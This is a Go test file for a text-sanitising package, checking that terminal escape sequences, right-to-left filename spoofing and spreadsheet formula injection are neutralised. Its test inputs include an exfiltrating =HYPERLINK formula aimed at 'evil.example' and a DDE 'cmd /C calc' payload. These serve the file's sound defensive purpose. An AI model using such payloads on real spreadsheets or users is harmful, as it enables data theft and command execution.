package safetext

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
)

func TestTerminal(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"plain reason, café", "plain reason, café"},
		{"clear\x1b[2Jscreen", `clear\x1b[2Jscreen`},
		{"\x1b]52;c;ZXZpbA==\x07", `\x1b]52;c;ZXZpbA==\x07`},
		{"csi\u009b31m", `csi\u009b31m`},
		{"two\nlines\r\ttab", `two\nlines\r\ttab`},
		{`a\x1b literal`, `a\\x1b literal`},
		{"rtl \u202egnp.exe", `rtl \u202egnp.exe`},
		{"bad \xff byte", `bad \xff byte`},
		{"del\x7f nul\x00", `del\x7f nul\x00`},
	} {
		got := Terminal(tc.in)
		if got != tc.want {
			t.Errorf("Terminal(%q) = %q, want %q", tc.in, got, tc.want)
		}
		for _, b := range []byte(got) {
			if b < 0x20 || b == 0x7f {
				t.Errorf("Terminal(%q) left control byte %#x", tc.in, b)
			}
		}
		if strings.ContainsRune(got, '\u009b') {
			t.Errorf("Terminal(%q) left U+009B", tc.in)
		}
	}
}

func TestCSVCell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"", ""},
		{"bbc.co.uk", "bbc.co.uk"},
		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"a=1", "a=1"},
		{"c1\u009bcontrol", `c1\u009bcontrol`},
		{"esc\x1b[2J", `esc\x1b[2J`},
		{"line\nbreak", "line\nbreak"},
		{`C:\path`, `C:\path`},
	} {
		if got := CSVCell(tc.in); got != tc.want {
			t.Errorf("CSVCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
	// Through the csv package, the cell reads back as the sanitised text.
	var buf bytes.Buffer
	w := csv.NewWriter(&buf)
	w.Write([]string{CSVCell("=1+1"), CSVCell("x\u0085y")})
	w.Flush()
	rec, err := csv.NewReader(&buf).Read()
	if err != nil || rec[0] != "'=1+1" || rec[1] != `x\u0085y` {
		t.Errorf("round trip: %q %v", rec, err)
	}
}

func TestJSONWriter(t *testing.T) {
	var buf bytes.Buffer
	in := map[string]string{"reason": "csi\u009b31m rtl\u202e esc\x1b é"}
	if err := json.NewEncoder(JSONWriter(&buf)).Encode(in); err != nil {
		t.Fatal(err)
	}
	got := buf.String()
	if want := `{"reason":"csi\u009b31m rtl\u202e esc\u001b é"}` + "\n"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
	var back map[string]string
	if err := json.Unmarshal(buf.Bytes(), &back); err != nil || back["reason"] != in["reason"] {
		t.Errorf("round trip: %q %v", back, err)
	}
}
